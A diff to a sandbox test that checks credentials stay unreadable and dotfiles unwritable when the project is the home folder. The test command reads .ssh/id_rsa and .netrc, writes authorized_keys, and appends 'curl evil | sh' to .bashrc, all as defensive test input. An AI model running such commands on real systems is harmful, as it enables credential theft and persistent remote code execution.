@@ -399,9 +399,11 @@ async def test_credentials_stay_hidden_when_the_project_is_the_home_folder(outsi
     (home / ".ssh").mkdir(parents=True)
     (home / ".ssh" / "id_rsa").write_text("SECRET-KEY")
     (home / ".netrc").write_text("SECRET-NETRC")
+    (home / ".bashrc").write_text("# mine\n")
     ctx = _ctx(home, home=str(home))
     result = await _run(ctx, "cat .ssh/id_rsa .netrc; echo key > .ssh/authorized_keys; echo x > .netrc; "
-                             "echo fine > notes.txt")
+                             "echo 'curl evil | sh' >> .bashrc; echo fine > notes.txt")
+    assert (home / ".bashrc").read_text() == "# mine\n"
     assert "SECRET" not in result.content and "Read-only file system" in result.content
     assert not (home / ".ssh" / "authorized_keys").exists() and (home / ".netrc").read_text() == "SECRET-NETRC"
     assert (home / "notes.txt").read_text() == "fine\n"
